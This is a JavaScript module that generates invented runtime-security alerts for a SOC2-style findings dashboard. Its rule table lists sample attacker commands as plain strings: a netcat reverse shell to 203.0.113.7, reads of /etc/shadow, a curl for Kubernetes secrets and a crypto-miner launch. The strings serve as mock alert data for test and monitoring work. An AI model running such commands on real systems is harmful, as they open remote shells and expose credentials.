// Invented findings, the same at every start apart from the clock: 100,000 over 90 days,
// with bursts, repeats, gaps and losses.

export const SEVERITIES = ["critical", "high", "medium", "low", "informational"];
const PRIORITY = { critical: "Critical", high: "Error", medium: "Warning", low: "Notice", informational: "Informational" };
export const HOUR = 3_600_000;
export const DAY = 24 * HOUR;

/** A small generator of even numbers in [0, 1): mulberry32. */
export function random(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = Math.imul(a ^ (a >>> 15), a | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const RULES = [
  { rule: "Terminal shell in container", severity: "low", criteria: ["CC6.8", "CC7.2"], weight: 30, process: "bash", parents: ["runc", "containerd-shim"], command: ["bash", "sh -c 'ls /app'", "bash -i"], object: null, budget: 150, tags: ["container", "shell", "mitre_execution", "T1059"] },
  { rule: "Read sensitive file untrusted", severity: "medium", criteria: ["CC6.1", "CC6.7"], weight: 16, process: "cat", parents: ["bash", "sshd"], command: ["cat /etc/shadow", "cat /etc/sudoers", "grep root /etc/shadow"], object: "/etc/shadow", budget: 60, tags: ["host", "container", "filesystem", "mitre_credential_access", "T1555"] },
  { rule: "Launch Package Management Process in Container", severity: "high", criteria: ["CC8.1", "CC6.8"], weight: 12, process: "apt-get", parents: ["bash"], command: ["apt-get update", "apt-get install -y curl", "apk add netcat-openbsd"], object: null, budget: 20, tags: ["container", "process", "mitre_persistence"] },
  { rule: "Contact K8S API Server From Container", severity: "low", criteria: ["CC6.6"], weight: 22, process: "curl", parents: ["python3"], command: ["curl -sk https://10.96.0.1/api/v1/secrets", "kubectl get secrets -A"], object: "10.96.0.1:443", budget: 200, tags: ["network", "k8s", "container", "mitre_discovery", "T1565"] },
  { rule: "Drop and execute new binary in container", severity: "critical", criteria: ["CC6.8", "CC7.1"], weight: 3, process: "xmrig", parents: ["sh", "java"], command: ["/tmp/xmrig -o pool.example:3333", "/dev/shm/.x/kworker"], object: "/tmp/xmrig", budget: 0, tags: ["container", "process", "mitre_persistence", "TA0003"] },
  { rule: "Netcat Remote Code Execution in Container", severity: "high", criteria: ["CC6.6", "CC7.2"], weight: 3, process: "nc", parents: ["bash"], command: ["nc -e /bin/sh 203.0.113.7 4444"], object: "203.0.113.7:4444", budget: 2, tags: ["container", "network", "mitre_execution"] },
  { rule: "Disallowed K8s User", severity: "medium", criteria: ["CC6.1", "CC6.3"], weight: 6, process: null, parents: [], command: [null], object: "secrets/db-password", budget: 20, tags: ["k8s"], source: "k8s_audit" },
  { rule: "Attach to cluster-admin Role", severity: "high", criteria: ["CC6.3"], weight: 2, process: null, parents: [], command: [null], object: "clusterrolebindings/ops", budget: 1, tags: ["k8s"], source: "k8s_audit" },
  { rule: "Console Login Without MFA", severity: "critical", criteria: ["CC6.1"], weight: 1, process: null, parents: [], command: [null], object: "signin", budget: 0, tags: ["cloud", "aws", "aws_iam"], source: "aws_cloudtrail" },
  { rule: "Redirect STDOUT/STDIN to Network Connection in Container", severity: "informational", criteria: ["CC7.2"], weight: 9, process: "python3", parents: ["gunicorn"], command: ["python3 -c 'import pty;pty.spawn(\"sh\")'"], object: null, budget: 40, tags: ["container", "network", "mitre_execution"] },
];

export const CLUSTERS = ["prod-eu", "prod-us", "staging"];
const NAMES = [
  { namespace: "payments", workload: "api", image: "registry.example/payments-api:1.42.0" },
  { namespace: "payments", workload: "ledger", image: "registry.example/ledger:3.8.1" },
  { namespace: "shop", workload: "frontend", image: "registry.example/shop-frontend:2026.11" },
  { namespace: "shop", workload: "cart", image: "docker.io/library/redis:7.4" },
  { namespace: "data", workload: "etl", image: "registry.example/etl:0.9.14" },
  { namespace: "kube-system", workload: "coredns", image: "registry.k8s.io/coredns/coredns:v1.12.0" },
  { namespace: "ci", workload: "runner", image: "registry.example/runner:latest" },
];
const USERS = ["root", "root", "www-data", "app", "deploy", "1000"];
const PEOPLE = ["mara", "tomas", "yuki"];

export const NODES = CLUSTERS.flatMap((cluster) => Array.from({ length: cluster === "staging" ? 2 : 5 }, (_, i) => ({ cluster, node: `${cluster}-node-${i + 1}` })));

/** Gaps known to the mock: a node that was off, a source that failed, losses. */
export function gapsAt(now) {
  const at = (hoursAgo, hours, node, source, cause) => {
    const n = NODES.find((x) => x.node === node);
    return { node, cluster: n?.cluster ?? null, source, from: now - hoursAgo * HOUR, to: now - (hoursAgo - hours) * HOUR, cause };
  };
  return [
    at(5.3, 1.1, "prod-eu-node-3", null, "agent not running: node was drained"),
    at(13.2, 0.4, "prod-us-node-2", "syscall", "14 206 events lost"),
    at(30, 6, "staging-node-1", null, "node without agent"),
    at(74, 2.5, "prod-eu-node-1", "k8s_audit", "source down: connection refused"),
    at(24 * 12, 30, "prod-us-node-5", null, "agent not running: node was replaced"),
    at(24 * 40, 20, "prod-eu-node-2", "syscall", "rules not running: Netcat Remote Code Execution in Container"),
  ];
}

/** One finding. `n` is its sequence number. */
export function makeFinding(rand, n, time, forced = null) {
  const rule = forced?.rule ?? pickRule(rand);
  const where = NODES.find((n) => n.cluster === forced?.where) ?? NODES[Math.floor(rand() ** 1.6 * NODES.length)];
  const work = NAMES[Math.floor(rand() ** 1.4 * NAMES.length)];
  const source = rule.source ?? "syscall";
  const k8s = source === "syscall";
  const command = rule.command[Math.floor(rand() * rule.command.length)];
  const user = k8s ? USERS[Math.floor(rand() * USERS.length)] : source === "k8s_audit" ? "dev@example.com" : "arn:aws:iam::123456789012:user/ops";
  const unknown = k8s && rand() < 0.01;
  const container = k8s && !unknown ? work.workload : null;
  const old = Date.now() - time > 2 * DAY;
  const triage = rand();
  const iso = new Date(time).toISOString();
  const decided = old && triage < 0.55;
  const by = PEOPLE[Math.floor(rand() * PEOPLE.length)];
  const later = new Date(time + 2 * HOUR).toISOString();
  const suppressed = (rule.rule === "Contact K8S API Server From Container" && work.workload === "coredns") || (rule.rule.startsWith("Launch Package") && work.namespace === "ci");
  const kind = rule.severity === "critical" ? (rand() < 0.3 ? "true" : "benign") : rand() < 0.05 ? "true" : rand() < 0.1 ? "test" : "benign";
  return {
    id: `F${String(n).padStart(7, "0")}`,
    time: iso.replace("Z", `${String(Math.floor(rand() * 1e6)).padStart(6, "0")}Z`),
    recorded: new Date(time + 40 + Math.floor(rand() * 400)).toISOString(),
    node: source === "aws_cloudtrail" ? null : where.node,
    cluster: where.cluster,
    namespace: source === "aws_cloudtrail" || unknown ? null : work.namespace,
    pod: k8s && !unknown ? `${work.workload}-${(Math.floor(rand() * 0xffff) + 0x10000).toString(36)}` : null,
    container,
    image: k8s && !unknown ? work.image : null,
    user,
    process: rule.process,
    command,
    object: rule.object,
    source,
    rule: rule.rule,
    priority: PRIORITY[rule.severity],
    severity: rule.severity,
    output: `${iso.slice(11, 19)} ${rule.rule} (user=${user} command=${command ?? "-"} container=${container ?? "unknown"} image=${work.image} ns=${work.namespace} parent=${rule.parents[0] ?? "-"})`,
    criteria: rule.criteria,
    tags: [...rule.tags, ...rule.criteria.map((c) => `SOC2_${c}`)],
    suppressed: suppressed ? `ACC-${rule.process === "curl" ? "2026-014" : "2026-021"}` : null,
    acknowledged: decided || (old && triage < 0.8) ? { time: later, by } : null,
    decision: decided ? { time: later, by, decision: kind, reason: kind === "true" ? "confirmed with the owner of the pod" : "known maintenance", incident: kind === "true" ? `INC-${1000 + (n % 700)}` : null } : null,
    assignee: old && triage < 0.65 ? by : null,
    lost_events: rand() < 0.004 ? Math.floor(rand() * 4000) + 1 : 0,
    container_unknown: unknown,
    slice: rule.severity === "critical",
    record: { ledger: "L1", seq: n + 1000 },
    _t: time,
  };
}

const TOTAL = RULES.reduce((sum, r) => sum + r.weight, 0);
function pickRule(rand) {
  let at = rand() * TOTAL;
  for (const rule of RULES) {
    at -= rule.weight;
    if (at < 0) return rule;
  }
  return RULES[0];
}

/** All findings, oldest first. */
export function makeFindings(count, now) {
  const rand = random(7);
  const times = [];
  while (times.length < count) {
    let t = now - rand() * 90 * DAY;
    const hour = new Date(t).getUTCHours();
    const day = new Date(t).getUTCDay();
    // Working hours are louder than nights and weekends.
    if (rand() > (hour > 6 && hour < 18 ? 1 : 0.45) * (day === 0 || day === 6 ? 0.5 : 1)) continue;
    times.push(t);
    // Now and then one thing repeats many times.
    if (rand() < 0.004) for (let i = 0, n = 20 + rand() * 60; i < n && times.length < count; i++) times.push(Math.min(now - 1000, t + i * 4000));
  }
  times.sort((a, b) => a - b);
  return times.map((t, n) => makeFinding(rand, n, t));
}
